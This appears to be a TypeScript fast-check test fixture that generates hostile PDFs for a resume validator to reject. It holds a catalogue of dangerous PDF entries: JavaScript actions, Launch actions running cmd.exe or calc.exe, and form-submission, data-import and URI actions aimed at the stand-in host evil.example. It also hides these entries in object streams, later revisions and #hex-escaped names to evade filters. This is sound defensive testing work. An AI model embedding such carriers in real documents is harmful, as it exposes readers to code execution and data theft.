import { deflateSync } from 'node:zlib'
import * as fc from 'fast-check'
import { pdfBytes } from './fixtures.ts'
import { libraryPdf, withObjects } from './odd-files.ts'

/* PDFs with scripts, attachments, forms or hidden objects, in many encodings. */

/** Forbidden dictionary entries of a resume, as keys and values. */
const carriers = {
  script: ['/S /JavaScript', '/JS (app.alert\\(1\\))'],
  scriptElsewhere: ['/Type /Action', '/S /JavaScript', '/JS 12 0 R'],
  program: ['/S /Launch', '/F (calc.exe)'],
  programForWindows: ['/S /Launch', '/Win << /F (cmd.exe) /P (/c calc) >>'],
  rendition: ['/S /Rendition', '/OP 0', '/JS (app.alert\\(1\\))'],
  richMedia: ['/Type /Annot', '/Subtype /RichMedia', '/RichMediaContent << >>'],
  model: ['/Type /Annot', '/Subtype /3D'],
  film: ['/Type /Annot', '/Subtype /Movie'],
  form: ['/Fields []', '/XFA [(template) 12 0 R]'],
  sentForm: ['/S /SubmitForm', '/F (https://evil.example)'],
  takenData: ['/S /ImportData', String.raw`/F (\\\\evil.example\\share)`],
  fileWithin: ['/Type /Filespec', '/F (a.exe)', '/EF << /F 12 0 R >>'],
  fileWithinUnnamed: ['/F (a.exe)', '/EF << /UF 12 0 R >>'],
  attachment: ['/Type /Annot', '/Subtype /FileAttachment', '/FS 12 0 R'],
  embedded: ['/Type /EmbeddedFile', '/Subtype /application#2Fzip'],
  remote: ['/S /GoToE', '/F 12 0 R', '/T << /R /C >>'],
  otherFile: ['/S /GoToR', String.raw`/F (\\\\evil.example\\share)`],
  readThread: ['/S /Thread', '/F (https://evil.example/a.pdf)', '/D 0'],
  ownActions: ['/Type /Page', '/AA << /O << /S /URI /URI (https://evil.example) >> >>'],
  openedAddress: ['/Type /Catalog', '/OpenAction << /S /URI /URI (https://evil.example) >>'],
  openedChain: [
    '/Type /Catalog',
    '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://a) >> >>',
  ],
  locked: ['/Filter /Standard', '/Encrypt 12 0 R'],
} as const

const places = [
  'catalogue',
  'object',
  'nested',
  'annotation',
  'object stream',
  'packed object stream',
  'earlier revision',
  'later revision',
  'inside a stream',
  'kind elsewhere',
] as const

const spaces = [' ', '\n', '\t', '\f', '\r\n', '  ', '%a comment\n', '\0']

/** The same names with some letters escaped as `#4a`. */
const disguised = (text: string, mask: number): string => {
  let at = 0
  return text.replaceAll(/\/[A-Za-z0-9]+/g, (name) =>
    Array.from(name)
      .map((letter, index) => {
        at += 1
        const isPlain = index === 0 || (mask >>> (at % 31)) % 2 === 0
        return isPlain ? letter : `#${letter.charCodeAt(0).toString(16)}`
      })
      .join(''),
  )
}

type Recipe = {
  readonly carrier: keyof typeof carriers
  readonly place: (typeof places)[number]
  readonly space: string
  readonly mask: number
}

const recipes: fc.Arbitrary<Recipe> = fc.record({
  carrier: fc.constantFrom(...Object.keys(carriers).filter(isCarrier)),
  place: fc.constantFrom(...places),
  space: fc.constantFrom(...spaces),
  mask: fc.oneof(fc.constant(0), fc.nat(2 ** 31 - 1)),
})

function isCarrier(name: string): name is keyof typeof carriers {
  return Object.hasOwn(carriers, name)
}

/** All must be rejected. */
export const hostilePdfs: fc.Arbitrary<{ what: string; make: () => Promise<Buffer> }> = recipes.map(
  (recipe) => ({ what: JSON.stringify(recipe), make: () => build(recipe) }),
)

type Build = (
  dict: string,
  object: (body: string, number?: number) => string,
) => Buffer | Promise<Buffer>

const builders: Readonly<Record<(typeof places)[number], Build>> = {
  catalogue: (dict) => pdfBytes({ extra: `/OpenAction ${dict}` }),
  object: (dict, object) => withObjects(object(dict)),
  nested: (dict, object) => withObjects(object(`[null << /A [${dict}] >>]`)),
  annotation: (dict, object) => withObjects(object(`<< /Type /Annot /Subtype /Link /A ${dict} >>`)),
  'object stream': (dict) => withObjects(objectStream([dict], false)),
  'packed object stream': (dict) => withObjects(objectStream(['(a)', `<< /A ${dict} >>`], true)),
  'earlier revision': (dict, object) => withObjects(`${object(dict)}\n${object('<< >>')}`),
  'later revision': (dict, object) => withRevision(object(dict)),
  'inside a stream': (dict, object) => {
    const hidden = object(dict, 8)
    return withObjects(object(`<< /Length ${hidden.length} >> stream\n${hidden}\nendstream`))
  },
  'kind elsewhere': (dict, object) => elsewhere(dict, object),
}

async function build({ carrier, place, space, mask }: Recipe): Promise<Buffer> {
  const pairs = carriers[carrier].map((pair) => disguised(pair, mask))
  const dict = `<<${space}${pairs.join(space)}${space}>>`
  const object = (body: string, number = 9) => `${number} 0 obj${space}${body}\nendobj`
  return await builders[place](dict, object)
}

/** The type is an indirect object. */
async function elsewhere(dict: string, object: (body: string, number?: number) => string) {
  const kind = /\/(?:S|Subtype) (\/\S+)/.exec(dict)?.[1]
  if (kind === undefined) return await libraryPdf((document) => document.addJavaScript('a', 'b()'))
  return withObjects(`${object(dict.replace(kind, '12 0 R'))}\n${object(kind, 12)}`)
}

/** An object stream of PDF 1.5, plain or compressed. */
function objectStream(objects: readonly string[], isPacked: boolean): string {
  const offsets = objects.map((_, index) => objects.slice(0, index).join('\n').length + index)
  const head = offsets.map((offset, index) => `${20 + index} ${Math.max(0, offset)}`).join(' ')
  const body = Buffer.from(`${head} ${objects.join('\n')}`, 'latin1')
  const bytes = isPacked ? deflateSync(body) : body
  const filter = isPacked ? '/Filter /FlateDecode' : ''
  const dict = `<< /Type /ObjStm /N ${objects.length} /First ${head.length + 1} ${filter} /Length ${bytes.length} >>`
  return `9 0 obj ${dict} stream\n${bytes.toString('latin1')}\nendstream endobj`
}

/** The file with an incremental update. */
function withRevision(objects: string): Buffer {
  const text = pdfBytes().toString('latin1')
  const first = /startxref\n(\d+)/.exec(text)?.[1] ?? '0'
  const start = text.length + objects.length + 1
  const trailer = `<< /Size 20 /Root 1 0 R /Prev ${first} >>`
  return Buffer.from(
    `${text}${objects}\nxref\n0 0\ntrailer\n${trailer}\nstartxref\n${start}\n%%EOF\n`,
    'latin1',
  )
}
